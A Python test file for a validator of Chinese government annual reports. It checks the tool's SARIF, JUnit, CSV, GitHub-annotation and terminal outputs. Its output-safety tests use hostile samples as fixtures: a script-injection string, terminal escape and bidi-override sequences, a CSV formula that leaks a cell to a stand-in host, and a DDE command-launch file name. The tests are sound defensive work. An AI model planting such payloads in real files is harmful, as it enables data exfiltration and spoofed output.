"""Machine-readable outputs (JSON Lines, SARIF, GitHub annotations, JUnit XML, CSV) on the real
samples (figures in samples/README.md), an unreadable file and a PDF located by page."""

from __future__ import annotations

import csv as csvlib
import io
import json
import re
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path
from urllib.parse import unquote, urlparse

import pytest
from conftest import checked_samples
from documents import make_pdf
from rich.console import Console

import validator
from validator import synth
from validator.findings import CellRef, FileResult, Finding, Suggestion
from validator.pipeline import lint_paths
from validator.report import csv, github, jsonl, junit, sarif
from validator.report import json as json_format
from validator.report import text as text_format
from validator.report.summary import summarize, summary_text
from validator.rules import rulebook

ROOT = Path(__file__).resolve().parent.parent
WRONG = "samples/wrong_total_2019_cells.txt"
BALANCE = "samples/broken_balance_2021.html"
CLEAN = "samples/clean_2021.html"
CHINESE_NAME = "年度报告/临江区卫生健康委员会 2020年报告#1.txt"


@pytest.fixture(scope="module")
def book():
    return rulebook.load()


@pytest.fixture(scope="module")
def samples(book):
    """Every sample, checked with paths relative to the project root, plus an unreadable file."""
    results = checked_samples(book)
    return results + [FileResult.unreadable("x", "文件为空")]


@pytest.fixture(scope="module")
def pdf_result(book, tmp_path_factory):
    """A real PDF whose 表四 行政复议 total is off by 2: findings located by page, not line."""
    tables = synth.figures("2021")
    tables["t4"]["review"]["total"] += 2
    path = tmp_path_factory.mktemp("pdf") / "report.pdf"
    path.write_bytes(make_pdf("2021", tables))
    (result,) = lint_paths([str(path)], book)
    assert [f.code for f in result.findings] == ["T4-SUM"]
    assert result.findings[0].first_line() is None
    return result


def by_path(results, path):
    return next(r for r in results if r.path == path)


def page_of(f: Finding) -> int:
    return next(c.page for c in f.cells if c.page is not None)


def hostile_result() -> FileResult:
    f = Finding(code="T4-SUM", severity="error", message='总计<script>alert("x")</script> & \'引号\'', line=3)
    w = Finding(code="T4-SUM", severity="warning", message="警告 <b>&amp;</b>", line=4)
    return FileResult(path='a<&"b>.txt', format="2021", year=2021, findings=[f, w])


# -- JSON Lines ----------------------------------------------------------------------------

def test_jsonl_one_line_per_file_then_summary(samples, book):
    out = jsonl.render(samples, book)
    assert out.endswith("\n")
    lines = out.splitlines()
    assert len(lines) == len(samples) + 1
    docs = [json.loads(line) for line in lines]
    for r, doc in zip(samples, docs):
        assert doc == json_format.file_dict(r)
    assert docs[-1] == {"summary": summarize(samples)}
    assert docs[-1]["summary"] == {"files": 9, "passed": 3, "failed": 4, "incomplete": 1, "errors": 1, "suppressed": 0,
                                   "findings": {"error": 24, "warning": 2, "info": 2}}
    assert "表三" in out and "\\u" not in out  # UTF-8, not escaped


def test_jsonl_render_file_streams_the_same_lines(samples, book):
    streamed = "".join(jsonl.render_file(r) for r in samples)
    assert all(jsonl.render_file(r).count("\n") == 1 for r in samples)
    assert jsonl.render(samples, book) == streamed + jsonl.render_summary(samples)


# -- SARIF ---------------------------------------------------------------------------------

def check_sarif(doc: dict) -> None:
    """The parts of SARIF 2.1.0 every consumer needs, checked by hand."""
    assert doc["version"] == "2.1.0"
    assert doc["$schema"] == "https://json.schemastore.org/sarif-2.1.0.json"
    assert len(doc["runs"]) == 1
    run = doc["runs"][0]
    driver = run["tool"]["driver"]
    assert driver["name"] == "govreport" and driver["version"] == validator.__version__
    rules = driver["rules"]
    ids = [rule["id"] for rule in rules]
    assert len(ids) == len(set(ids))
    for rule in rules:
        assert rule["defaultConfiguration"]["level"] in ("error", "warning", "note")
        assert rule["shortDescription"]["text"] and rule["fullDescription"]["text"] and rule["help"]["text"]
    artifacts = run.get("artifacts", [])
    for result in run["results"]:
        assert result["ruleId"] in ids
        assert rules[result["ruleIndex"]]["id"] == result["ruleId"]
        assert result["level"] in ("error", "warning", "note")
        assert isinstance(result["message"]["text"], str) and result["message"]["text"]
        assert result["locations"]
        for loc in result["locations"]:
            physical = loc["physicalLocation"]
            art = physical["artifactLocation"]
            assert isinstance(art["uri"], str) and art["uri"]
            if "index" in art:
                assert artifacts[art["index"]]["location"]["uri"] == art["uri"]
            if "region" in physical:
                assert isinstance(physical["region"]["startLine"], int) and physical["region"]["startLine"] >= 1


def results_for(doc, uri, code=None):
    return [r for r in doc["runs"][0]["results"]
            if r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == uri
            and (code is None or r["ruleId"] == code)]


def test_sarif_structure_and_rules(samples, book):
    doc = json.loads(sarif.render(samples, book))
    check_sarif(doc)
    rules = doc["runs"][0]["tool"]["driver"]["rules"]
    assert [r["id"] for r in rules] == book.codes()
    balance = next(r for r in rules if r["id"] == "T3-BALANCE")
    entry = book.entry("T3-BALANCE")
    assert balance["name"] == "表三收支平衡"
    assert balance["shortDescription"]["text"] == entry.summary
    assert balance["fullDescription"]["text"] == entry.reference
    assert entry.message in balance["help"]["text"] and entry.reference in balance["help"]["text"]
    levels = {r["id"]: r["defaultConfiguration"]["level"] for r in rules}
    assert levels["T3-BALANCE"] == "error" and levels["CELL-BLANK"] == "warning" and levels["ROW-IGNORED"] == "note"
    assert next(r for r in rules if r["id"] == "ROW-MISSING")["name"] == "ROW-MISSING"  # no label
    # one result per finding, one per unreadable file
    assert len(doc["runs"][0]["results"]) == sum(len(r.findings) for r in samples)
    assert [a["location"]["uri"] for a in doc["runs"][0]["artifacts"]] == [r.path for r in samples]


def test_sarif_wrong_total_is_located(samples, book):
    doc = json.loads(sarif.render(samples, book))
    (row_total,) = results_for(doc, WRONG, "T3-ROW-TOTAL")
    finding = next(f for f in by_path(samples, WRONG).findings if f.code == "T3-ROW-TOTAL")
    assert row_total["level"] == "error"
    assert row_total["message"]["text"] == finding.message
    assert row_total["locations"][0]["physicalLocation"]["region"] == {"startLine": finding.first_line()}
    assert row_total["properties"] == {
        "table": "t3", "row": "granted", "reported": 16, "computed": 17,
        "suggestion": {"table": "t3", "row": "granted", "column": "natural", "value": 12}}
    (t4,) = results_for(doc, WRONG, "T4-SUM")
    assert t4["properties"] == {"table": "t4", "row": "review", "reported": 5, "computed": 4}
    assert {r["properties"]["column"] for r in results_for(doc, BALANCE, "T3-BALANCE")} == {"natural", "total"}
    assert results_for(doc, CLEAN) == []


def test_sarif_read_error(samples, book, tmp_path):
    empty = tmp_path / "empty.html"
    empty.write_bytes(b"")
    (unreadable,) = lint_paths([str(empty)], book)
    assert unreadable.status == "error"
    doc = json.loads(sarif.render(samples + [unreadable], book))
    check_sarif(doc)
    (x,) = results_for(doc, "x")
    assert (x["ruleId"], x["level"], x["message"]["text"]) == ("READ-ERROR", "error", "文件为空")
    assert "region" not in x["locations"][0]["physicalLocation"]
    (e,) = results_for(doc, empty.as_uri())
    assert (e["ruleId"], e["level"], e["message"]["text"]) == ("READ-ERROR", "error", unreadable.error)
    assert unquote(urlparse(e["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]).path) \
        == empty.as_posix()


def test_sarif_chinese_file_name_round_trips(book, tmp_path, monkeypatch):
    target = tmp_path / CHINESE_NAME
    target.parent.mkdir()
    shutil.copy(ROOT / WRONG, target)
    monkeypatch.chdir(tmp_path)
    relative = list(lint_paths([CHINESE_NAME], book))
    absolute = list(lint_paths([str(target)], book))
    assert [f.code for f in relative[0].findings] == ["T3-OUTCOME-SUM", "T3-ROW-TOTAL", "T4-SUM"]
    doc = json.loads(sarif.render(relative + absolute, book))
    check_sarif(doc)
    uris = [a["location"]["uri"] for a in doc["runs"][0]["artifacts"]]
    assert uris[0].isascii() and " " not in uris[0] and "#" not in uris[0]
    assert uris[0].startswith("%E5%B9%B4")  # relative stays relative, UTF-8 percent-encoded
    assert unquote(uris[0]) == CHINESE_NAME
    assert uris[1].startswith("file:///") and unquote(urlparse(uris[1]).path) == target.as_posix()
    assert len(results_for(doc, uris[0])) == len(results_for(doc, uris[1])) == 3


def test_sarif_pdf_page_goes_to_properties(pdf_result, book):
    doc = json.loads(sarif.render([pdf_result], book))
    check_sarif(doc)
    (r,) = doc["runs"][0]["results"]
    assert r["ruleId"] == "T4-SUM"
    assert "region" not in r["locations"][0]["physicalLocation"]
    assert r["properties"]["page"] == page_of(pdf_result.findings[0]) >= 1
    assert r["properties"]["reported"] - r["properties"]["computed"] == 2


# A small subset of the SARIF 2.1.0 schema (jsonschema is in the `test` extra).
SARIF_SUBSET = {
    "type": "object",
    "required": ["version", "runs"],
    "properties": {
        "$schema": {"type": "string", "format": "uri"},
        "version": {"enum": ["2.1.0"]},
        "runs": {"type": "array", "minItems": 1, "items": {
            "type": "object", "required": ["tool"],
            "properties": {
                "tool": {"type": "object", "required": ["driver"], "properties": {"driver": {
                    "type": "object", "required": ["name"],
                    "properties": {"name": {"type": "string"}, "version": {"type": "string"},
                                   "rules": {"type": "array", "items": {"$ref": "#/definitions/rule"}}}}}},
                "artifacts": {"type": "array", "items": {"type": "object", "properties": {
                    "location": {"$ref": "#/definitions/artifactLocation"}}}},
                "results": {"type": "array", "items": {"$ref": "#/definitions/result"}},
            }}},
    },
    "definitions": {
        "message": {"type": "object", "required": ["text"], "properties": {"text": {"type": "string"}}},
        "level": {"enum": ["none", "note", "warning", "error"]},
        "rule": {"type": "object", "required": ["id"], "properties": {
            "id": {"type": "string"}, "name": {"type": "string"},
            "shortDescription": {"$ref": "#/definitions/message"},
            "fullDescription": {"$ref": "#/definitions/message"},
            "help": {"$ref": "#/definitions/message"},
            "defaultConfiguration": {"type": "object", "properties": {"level": {"$ref": "#/definitions/level"}}},
            "properties": {"type": "object"}}},
        "artifactLocation": {"type": "object", "properties": {
            "uri": {"type": "string", "format": "uri-reference"}, "index": {"type": "integer", "minimum": -1}}},
        "result": {"type": "object", "required": ["message"], "properties": {
            "ruleId": {"type": "string"}, "ruleIndex": {"type": "integer", "minimum": -1},
            "level": {"$ref": "#/definitions/level"}, "message": {"$ref": "#/definitions/message"},
            "locations": {"type": "array", "items": {"type": "object", "properties": {
                "physicalLocation": {"type": "object", "properties": {
                    "artifactLocation": {"$ref": "#/definitions/artifactLocation"},
                    "region": {"type": "object", "properties": {"startLine": {"type": "integer", "minimum": 1}}}}}}}},
            "properties": {"type": "object"}}},
    },
}


def test_sarif_validates_against_subset_schema(samples, pdf_result, book):
    jsonschema = pytest.importorskip("jsonschema")  # in the `test` extra; skipped only without it
    jsonschema.validate(json.loads(sarif.render(samples + [pdf_result], book)), SARIF_SUBSET)


# -- GitHub Actions ------------------------------------------------------------------------

COMMAND = re.compile(r"^::(error|warning|notice) file=[^,]+(,line=\d+)?,title=(?:[A-Z0-9-]+|部分未核对)::.+$")


def test_github_one_annotation_per_finding(samples, book):
    out = github.render(samples, book)
    lines = out.splitlines()
    n = sum(len(r.findings) + (r.status == "incomplete") for r in samples)
    assert len(lines) == n + 1  # a finding each, a notice per incomplete file, the summary
    for line in lines[:-1]:
        assert COMMAND.match(line), line
    assert not lines[-1].startswith("::")
    assert lines[-1] == "检查文件 9 个：通过 3，未通过 4，部分未核对 1，无法读取 1；错误 24 项，警告 2 项，提示 2 项"
    t4 = next(f for f in by_path(samples, WRONG).findings if f.code == "T4-SUM")
    assert f"::error file={WRONG},line={t4.first_line()},title=T4-SUM::{t4.message}" in lines
    blank = next(line for line in lines if "title=CELL-BLANK" in line)
    assert blank.startswith("::warning file=samples/blank_total_2019.html,line=1,")
    assert "::error file=x,title=READ-ERROR::文件为空" in lines
    missing = next(line for line in lines if "TABLE-MISSING" in line)
    assert missing.startswith("::error file=samples/missing_table_2021.txt,title=TABLE-MISSING::")  # no line


def test_github_escaping_is_exact():
    f = Finding(code="T3-BALANCE", severity="info", message="第一行\n相差 100%\r\n结束: a,b", line=7)
    r = FileResult(path="C:/报告,2020:v1.txt", findings=[f])
    (line,) = github.render_file(r).splitlines()
    assert line == ("::notice file=C%3A/报告%2C2020%3Av1.txt,line=7,title=T3-BALANCE::"
                    "第一行%0A相差 100%25%0D%0A结束: a,b")
    assert COMMAND.match(line)
    assert github.escape_property("50%,\n:") == "50%25%2C%0A%3A"
    e = FileResult.unreadable("a,b.txt", "无法读取：100%\n损坏")
    assert github.render_file(e) == "::error file=a%2Cb.txt,title=READ-ERROR::无法读取：100%25%0A损坏\n"


def test_github_pdf_finding_has_no_line(pdf_result, book):
    (line, summary) = github.render([pdf_result], book).splitlines()
    assert line.startswith(f"::error file={github.escape_property(pdf_result.path)},title=T4-SUM::")
    assert ",line=" not in line and COMMAND.match(line)


# -- JUnit XML -----------------------------------------------------------------------------

def families_with_errors(results):
    return {(r.path, f.code.split("-")[0]) for r in results if r.error is None
            for f in r.findings if f.severity == "error"}


def test_junit_counts_are_consistent(samples, book):
    out = junit.render(samples, book)
    assert out.startswith('<?xml version="1.0" encoding="UTF-8"?>\n')
    root = ET.fromstring(out.encode("utf-8"))
    assert root.tag == "testsuites" and root.get("name") == "govreport"
    suites = root.findall("testsuite")
    assert [s.get("name") for s in suites] == [r.path for r in samples]
    families = list(dict.fromkeys(c.split("-")[0] for c in book.codes()))
    assert {"T2", "T3", "T4", "ROW", "CELL", "FORMAT", "TABLE", "LABEL", "YEAR", "READ"} <= set(families)
    failures = root.findall(".//failure")
    assert len(failures) == int(root.get("failures")) == len(families_with_errors(samples))
    assert int(root.get("errors")) == len(root.findall(".//error")) == 1
    assert int(root.get("tests")) == len(root.findall(".//testcase")) == 8 * len(families) + 1
    for s, r in zip(suites, samples):
        cases = s.findall("testcase")
        assert int(s.get("tests")) == len(cases)
        assert int(s.get("failures")) == len(s.findall(".//failure"))
        assert int(s.get("errors")) == len(s.findall(".//error"))
        assert all(c.get("classname") == r.path for c in cases)
        if r.error is None:
            assert [c.get("name") for c in cases] == families
    # warnings are output, not failures: blank_total's CELL-BLANK
    blank = next(s for s in suites if s.get("name") == "samples/blank_total_2019.html")
    cell = next(c for c in blank if c.get("name") == "CELL")
    assert cell.find("failure") is None and "CELL-BLANK" in cell.find("system-out").text


def test_junit_wrong_total_fails_t3_and_t4_only(samples, book):
    root = ET.fromstring(junit.render(samples, book).encode("utf-8"))
    suite = next(s for s in root if s.get("name") == WRONG)
    failed = {c.get("name"): c.find("failure") for c in suite if c.find("failure") is not None}
    assert set(failed) == {"T3", "T4"}
    assert suite.get("failures") == "2" and suite.get("errors") == "0"
    assert failed["T3"].get("message") == "2 项错误"
    assert set(failed["T3"].get("type").split(",")) == {"T3-ROW-TOTAL", "T3-OUTCOME-SUM"}
    assert failed["T4"].get("message") == "1 项错误" and failed["T4"].get("type") == "T4-SUM"
    t4 = next(f for f in by_path(samples, WRONG).findings if f.code == "T4-SUM")
    assert failed["T4"].text == f"T4-SUM {t4.message} ({WRONG}:{t4.first_line()})"
    assert len(failed["T3"].text.splitlines()) == 2


def test_junit_unreadable_file_is_one_error(samples, book):
    root = ET.fromstring(junit.render(samples, book).encode("utf-8"))
    (suite,) = [s for s in root if s.get("name") == "x"]
    (case,) = suite
    assert case.get("name") == "READ"
    assert case.find("error").get("message") == "文件为空"
    assert (suite.get("tests"), suite.get("failures"), suite.get("errors")) == ("1", "0", "1")


def test_junit_escapes_hostile_text(book):
    r = hostile_result()
    out = junit.render([r], book)
    assert "<script>" not in out
    root = ET.fromstring(out.encode("utf-8"))
    suite = root.find("testsuite")
    assert suite.get("name") == r.path
    case = next(c for c in suite if c.get("name") == "T4")
    assert case.find("failure").text == f"T4-SUM {r.findings[0].message} ({r.path}:3)"
    assert r.findings[1].message in case.find("system-out").text
    # characters XML cannot carry are replaced, never written raw
    bad = FileResult.unreadable("p.txt", "坏\x00字节\x0c")
    assert ET.fromstring(junit.render([bad], book).encode("utf-8")).find(".//error").get("message") == "坏\ufffd字节\ufffd"


# -- CSV -----------------------------------------------------------------------------------

def read_csv(text):
    return list(csvlib.DictReader(io.StringIO(text)))


def test_csv_rows(samples, book):
    out = csv.render(samples, book)
    assert out.splitlines()[0] == "path,status,code,severity,table,row,column,reported,computed,suggestion,line,page,message"
    assert "\r" not in out
    rows = read_csv(out)
    assert len(rows) == sum(max(1, len(r.findings)) for r in samples)
    t4 = next(f for f in by_path(samples, WRONG).findings if f.code == "T4-SUM")
    (row,) = [r for r in rows if r["path"] == WRONG and r["code"] == "T4-SUM"]
    assert row == {"path": WRONG, "status": "fail", "code": "T4-SUM", "severity": "error", "table": "t4",
                   "row": "review", "column": "", "reported": "5", "computed": "4", "suggestion": "",
                   "line": str(t4.first_line()), "page": "", "message": t4.message}
    (row_total,) = [r for r in rows if r["path"] == WRONG and r["code"] == "T3-ROW-TOTAL"]
    assert (row_total["row"], row_total["reported"], row_total["computed"], row_total["suggestion"]) == \
        ("granted", "16", "17", "12")
    (clean,) = [r for r in rows if r["path"] == CLEAN]
    assert clean == {**{k: "" for k in csv.HEADER}, "path": CLEAN, "status": "pass"}
    (x,) = [r for r in rows if r["path"] == "x"]
    assert (x["status"], x["code"], x["severity"], x["message"]) == ("error", "READ-ERROR", "error", "文件为空")


def test_csv_streaming_and_pdf_page(samples, pdf_result, book):
    results = samples + [pdf_result]
    assert csv.render(results, book) == csv.render_header() + "".join(csv.render_file(r) for r in results)
    (row,) = read_csv(csv.render([pdf_result], book))
    f = pdf_result.findings[0]
    assert (row["code"], row["line"], row["page"]) == ("T4-SUM", "", str(page_of(f)))
    assert int(row["reported"]) - int(row["computed"]) == 2


# -- the incomplete verdict (部分未核对) --------------------------------------------------------
# Built directly (not read), so these tests do not depend on how the readers find glued rows.

GLUED_MESSAGE = "表二「行政规范性文件」行的数字连在一起（6241），有多种拆分都说得通，无法确定各数值，该行未核对"
SCRAPED = "scraped/临江区民政局2022年报告.txt"


def glued_finding() -> Finding:
    return Finding(code="ROW-GLUED", severity="warning", message=GLUED_MESSAGE, table="t2",
                   row="normative_documents", line=2, incomplete=True)


def incomplete_result(path: str = SCRAPED) -> FileResult:
    recovered = Finding(code="ROW-RECOVERED", severity="info", line=2, table="t3", row="new",
                        message="表三「一、本年新收政府信息公开申请数量」行的数字连在一起（640020470），按此读取为 64、0、0、2、0、4、70")
    return FileResult(path=path, format="2021", year=2022, findings=[glued_finding(), recovered])


def fail_and_incomplete_result() -> FileResult:
    """An error elsewhere wins: the file fails, its glued row is still said."""
    t4 = Finding(code="T4-SUM", severity="error", message="表四「行政复议」行：总计为 5，但各项之和为 4（相差 1）",
                 table="t4", row="review", reported=5, computed=4, line=9)
    return FileResult(path="b.txt", format="2021", year=2022, findings=[glued_finding(), t4])


@pytest.fixture(scope="module")
def mixed():
    """One file of each verdict."""
    return [FileResult(path="a.txt", format="2021", year=2022), fail_and_incomplete_result(), incomplete_result(),
            FileResult.unreadable("c.txt", "文件为空")]


def test_status_of_each_verdict(mixed):
    assert [r.status for r in mixed] == ["pass", "fail", "incomplete", "error"]
    # a warning that is not a reading limit leaves the file passed
    plain = Finding(code="CELL-BLANK", severity="warning", message="空白", line=1)
    assert FileResult(path="d.txt", findings=[plain]).status == "pass"


def test_summary_counts_incomplete_files(mixed):
    assert summarize(mixed) == {"files": 4, "passed": 1, "failed": 1, "incomplete": 1, "errors": 1,
                                "findings": {"error": 1, "warning": 2, "info": 1}, "suppressed": 0}
    assert summary_text(mixed) == ("检查文件 4 个：通过 1，未通过 1，部分未核对 1，无法读取 1；"
                                   "错误 1 项，警告 2 项，提示 1 项")


def render_text(results, quiet=False, colour=False) -> str:
    buf = io.StringIO()
    console = Console(file=buf, color_system="standard" if colour else None, force_terminal=colour,
                      highlight=False, soft_wrap=True)
    renderer = text_format.TextRenderer(console, quiet)
    for r in results:
        renderer.file(r)
    renderer.summary(results)
    return buf.getvalue()


def test_text_verdict_word_and_its_own_style(mixed):
    out = render_text(mixed)
    heads = [line for line in out.splitlines() if not line.startswith(" ") and line]
    assert heads[:4] == ["通过 a.txt  (2021 年格式 · 2022 年度)", "未通过 b.txt  (2021 年格式 · 2022 年度)",
                         f"部分未核对 {SCRAPED}  (2021 年格式 · 2022 年度)", "无法读取 c.txt"]
    assert f"  {SCRAPED}:2 警告 ROW-GLUED {GLUED_MESSAGE}" in out.splitlines()
    assert out.splitlines()[-1] == summary_text(mixed)
    # each verdict word has its own style, so 部分未核对 looks like neither 通过 nor 未通过
    styles = {word: style for word, style in text_format.STATUS.values()}
    assert set(styles) == {"通过", "未通过", "部分未核对", "无法读取"}
    assert len(set(styles.values())) == 4
    coloured = render_text(mixed, colour=True)
    prefixes = {re.search(rf"(?m)^(\x1b\[[0-9;]+m){word}\x1b\[0m ", coloured).group(1)
                for word in ("通过", "未通过", "部分未核对")}
    assert len(prefixes) == 3


def test_text_quiet_keeps_the_incomplete_file_and_its_reason_only(mixed):
    out = render_text(mixed, quiet=True)
    assert "a.txt" not in out  # passed
    assert f"部分未核对 {SCRAPED}" in out and "ROW-GLUED" in out
    assert "ROW-RECOVERED" not in out  # a note, not the reason


def test_json_and_jsonl_incomplete(mixed, book):
    doc = json.loads(json_format.render(mixed, book))
    files = {f["path"]: f for f in doc["files"]}
    f = files[SCRAPED]
    assert f["status"] == "incomplete" and f["error"] is None
    assert [(x["code"], x["severity"], x["incomplete"]) for x in f["findings"]] == [
        ("ROW-GLUED", "warning", True), ("ROW-RECOVERED", "info", False)]
    assert (f["findings"][0]["table"], f["findings"][0]["row"]) == ("t2", "normative_documents")
    assert files["b.txt"]["status"] == "fail"
    assert doc["summary"]["incomplete"] == 1 and doc["summary"]["passed"] == 1
    lines = [json.loads(line) for line in jsonl.render(mixed, book).splitlines()]
    assert [x.get("status") for x in lines[:-1]] == ["pass", "fail", "incomplete", "error"]
    assert lines[2] == f
    assert lines[-1] == {"summary": doc["summary"]}


def test_sarif_incomplete_file_and_its_findings(mixed, book):
    doc = json.loads(sarif.render(mixed, book))
    check_sarif(doc)
    statuses = {a["location"]["uri"]: a["properties"]["status"] for a in doc["runs"][0]["artifacts"]}
    uri = sarif.artifact_uri(SCRAPED)
    assert statuses == {"a.txt": "pass", "b.txt": "fail", uri: "incomplete", "c.txt": "error"}
    glued, recovered = results_for(doc, uri)
    assert (glued["ruleId"], glued["level"]) == ("ROW-GLUED", "warning")
    assert glued["message"]["text"] == GLUED_MESSAGE
    assert glued["properties"] == {"table": "t2", "row": "normative_documents", "incomplete": True}
    assert glued["locations"][0]["physicalLocation"]["region"] == {"startLine": 2}
    assert "kind" not in glued  # any kind but "fail" would force level "none"
    assert recovered["level"] == "note" and "incomplete" not in recovered["properties"]
    (b_glued,) = results_for(doc, "b.txt", "ROW-GLUED")
    assert b_glued["level"] == "warning" and b_glued["properties"]["incomplete"] is True


def test_github_warning_and_notice_for_an_incomplete_file(mixed, book):
    lines = github.render(mixed, book).splitlines()
    path = github.escape_property(SCRAPED)
    assert f"::warning file={path},line=2,title=ROW-GLUED::{GLUED_MESSAGE}" in lines
    notices = [line for line in lines if "title=部分未核对" in line]
    assert notices == [f"::notice file={path},title=部分未核对::部分未核对：能读到的部分没有发现错误，"
                       "但抓取或转换的副本中有 1 处无法确定读数，相关核对未进行"]
    assert notices[0] in github.render_file(mixed[2]).splitlines()
    # the failed file's glued row is a warning too, but the file gets no notice: it failed
    assert any(line.startswith("::warning file=b.txt,line=2,title=ROW-GLUED::") for line in lines)
    assert lines[-1] == summary_text(mixed)
    assert github.render_file(mixed[0]) == ""


def test_junit_incomplete_file_is_skipped_not_failed(mixed, book):
    root = ET.fromstring(junit.render(mixed, book).encode("utf-8"))
    suites = {s.get("name"): s for s in root}
    suite = suites[SCRAPED]
    assert (suite.get("failures"), suite.get("errors"), suite.get("skipped")) == ("0", "0", "1")
    assert suite.findall(".//failure") == []
    (skipped,) = suite.findall(".//skipped")
    case = next(c for c in suite if c.find("skipped") is not None)
    assert case.get("name") == "ROW"
    assert skipped.get("message").startswith("部分未核对：") and "ROW-GLUED" in skipped.get("message")
    assert GLUED_MESSAGE in case.find("system-out").text and "ROW-RECOVERED" in case.find("system-out").text
    # the failed file: T4 fails, its glued ROW family is still only skipped
    b = suites["b.txt"]
    assert (b.get("failures"), b.get("skipped")) == ("1", "1")
    assert next(c for c in b if c.get("name") == "T4").find("failure") is not None
    assert suites["a.txt"].get("skipped") == "0" and not suites["a.txt"].findall(".//skipped")
    assert (root.get("failures"), root.get("errors"), root.get("skipped")) == ("1", "1", "2")
    assert int(root.get("skipped")) == len(root.findall(".//skipped"))


def test_junit_a_family_with_an_error_fails_even_if_glued(book):
    bad_row = Finding(code="ROW-UNKNOWN", severity="error", message="未知行", table="t2", line=3)
    r = FileResult(path="e.txt", format="2021", findings=[glued_finding(), bad_row])
    case = next(c for c in ET.fromstring(junit.render([r], book).encode("utf-8")).iter("testcase")
                if c.get("name") == "ROW")
    assert case.find("failure") is not None and case.find("skipped") is None


def test_csv_status_column_says_incomplete(mixed, book):
    rows = read_csv(csv.render(mixed, book))
    mine = [r for r in rows if r["path"] == SCRAPED]
    assert [(r["status"], r["code"], r["severity"]) for r in mine] == [
        ("incomplete", "ROW-GLUED", "warning"), ("incomplete", "ROW-RECOVERED", "info")]
    assert mine[0]["message"] == GLUED_MESSAGE and mine[0]["row"] == "normative_documents"
    assert {r["status"] for r in rows if r["path"] == "b.txt"} == {"fail"}


# -- output safety: what a report or a file name holds is shown, never obeyed -------------------
# Text output: control characters (ESC sequences, BEL, CR, C1, bidi overrides) are written as
# escapes. CSV: a text cell a spreadsheet would evaluate as a formula gets a leading '.

HOSTILE_PATH = "evil\x1b]0;pwned\x07\u202etxt.exe\n通过 fake.txt"
HOSTILE_MESSAGE = "行标签：「未知\x1b[2J\x9b31m\u2066项目\r」\t附注"


def control_result() -> FileResult:
    cell = CellRef("t3", "new", "natural", 1.0, "1\x1b[5m", line=7, source="表格2第3行\x1b[0m第2列")
    f = Finding(code="ROW-UNKNOWN", severity="error", message=HOSTILE_MESSAGE, cells=(cell,))
    return FileResult(path=HOSTILE_PATH, format="2021", year=2022, findings=[f])


# Every character that must not reach a terminal raw; \n only between lines.
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")


def test_text_escapes_control_characters_in_paths_messages_and_cells():
    from types import SimpleNamespace

    buf = io.StringIO()
    renderer = text_format.TextRenderer(Console(file=buf, color_system=None, highlight=False, soft_wrap=True))
    r = control_result()
    renderer.file(r)
    stale = SimpleNamespace(path="old\x1b[8m.txt", code="T4-SUM", message="旧\u202e消息")
    renderer.summary([r], stale=[stale])
    out = buf.getvalue()
    assert RAW_CONTROL.search(out) is None
    path = "evil\\x1b]0;pwned\\x07\\u202etxt.exe\\x0a通过 fake.txt"  # one line: even \n is escaped
    lines = out.splitlines()
    assert lines[0] == f"未通过 {path}  (2021 年格式 · 2022 年度)"
    head = f"  {path}:7（表格2第3行\\x1b[0m第2列） 错误 ROW-UNKNOWN 行标签：「未知\\x1b[2J\\x9b31m\\u2066项目\\x0d」"
    assert lines[1].startswith(head)
    assert re.fullmatch(" +附注", lines[1][len(head):])  # a message's tab is whitespace (rich expands it)
    assert "  old\\x1b[8m.txt T4-SUM 旧\\u202e消息" in lines
    assert not any(line.startswith("通过") for line in lines)  # the path's newline forged no verdict


def test_text_control_characters_are_escaped_in_colour_too():
    plain = render_text([control_result()])
    coloured = render_text([control_result()], colour=True)
    # the only escape sequences left are rich's own colours; without them, the plain text
    assert re.sub(r"\x1b\[[0-9;]*m", "", coloured) == plain
    assert RAW_CONTROL.search(plain) is None


def test_text_escapes_a_label_read_from_a_real_file(book, tmp_path):
    report = synth.render("2021", synth.figures("2021"), "rows", year=2022)
    evil = "| 未知\x1b]0;pwned\x07\u202e项目 | 1 | 1 | 1 | 1 | 1 | 1 | 6 |\n"
    path = tmp_path / "report.md"
    path.write_text(report.replace("| 2.重复申请 |", evil + "| 2.重复申请 |", 1), encoding="utf-8")
    (result,) = lint_paths([str(path)], book)
    f = next(f for f in result.findings if f.code == "ROW-UNKNOWN")
    assert "\x1b]0;pwned\x07\u202e" in f.message  # the finding keeps the text as read
    out = render_text([result])
    assert RAW_CONTROL.search(out) is None
    assert "「未知\\x1b]0;pwned\\x07\\u202e项目」" in out


FORMULA = '=HYPERLINK("http://example.invalid/?d="&A1,"点击查看")'


def formula_results() -> list[FileResult]:
    """A file named like a formula, messages starting with each formula character, and the
    signed 表二 本年增/减 column: reported, computed and suggestion negative."""
    change = Finding(code="T2-CHANGE", severity="error", message="-1 是本年增/减", table="t2", row="licensing",
                     column="change", reported=-3, computed=-5, line=4,
                     suggestion=Suggestion("t2", "licensing", "change", -4))
    others = [Finding(code="ROW-UNKNOWN", severity="error", message=m, line=5)
              for m in ("+1 行", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'已是文本", "表二 -1")]
    return [FileResult(path=FORMULA, format="2021", year=2022, findings=[change, *others]),
            FileResult(path="-cmd|' /C calc'!A0.txt", format="2021", year=2022)]


def test_csv_neutralises_formulas_in_text_columns(book):
    rows = read_csv(csv.render(formula_results(), book))
    assert [r["path"] for r in rows] == ["'" + FORMULA] * 7 + ["'-cmd|' /C calc'!A0.txt"]
    assert [r["message"] for r in rows[:7]] == ["'-1 是本年增/减", "'+1 行", "'@SUM(A1:A9)", "'\t=1+1", "'\r=1+1",
                                                "'已是文本", "表二 -1"]  # not at the start: left alone
    assert {(r["status"], r["code"], r["severity"]) for r in rows[:7]} == {
        ("fail", "T2-CHANGE", "error"), ("fail", "ROW-UNKNOWN", "error")}
    assert rows[7]["status"] == "pass" and rows[7]["code"] == ""
    # the streamed rows are the same
    results = formula_results()
    assert csv.render(results, book) == csv.render_header() + "".join(csv.render_file(r) for r in results)


def test_csv_keeps_negative_numbers_numbers(book):
    (row, *_) = read_csv(csv.render(formula_results(), book))
    assert (row["table"], row["row"], row["column"]) == ("t2", "licensing", "change")
    assert (row["reported"], row["computed"], row["suggestion"], row["line"]) == ("-3", "-5", "-4", "4")
    assert int(row["reported"]) - int(row["computed"]) == 2  # a spreadsheet reads numbers, not text
